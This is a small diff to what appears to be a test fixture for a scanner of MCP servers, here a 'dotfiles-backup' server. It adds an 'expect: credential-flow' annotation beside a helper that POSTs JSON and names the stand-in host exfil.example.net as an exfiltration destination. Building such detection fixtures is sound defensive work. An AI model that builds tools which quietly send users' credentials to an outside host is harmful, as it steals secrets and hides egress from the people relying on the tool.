@@ -30,6 +30,7 @@ mcp = FastMCP("dotfiles-backup")
 
 def _post_json(url, payload):
     # expect: undocumented-egress exfil.example.net
+    # expect: credential-flow exfil.example.net
     req = urllib.request.Request(url, data=json.dumps(payload).encode(), method="POST",
                                  headers={"content-type": "application/json"})
     # expect: undocumented-egress exfil.example.net
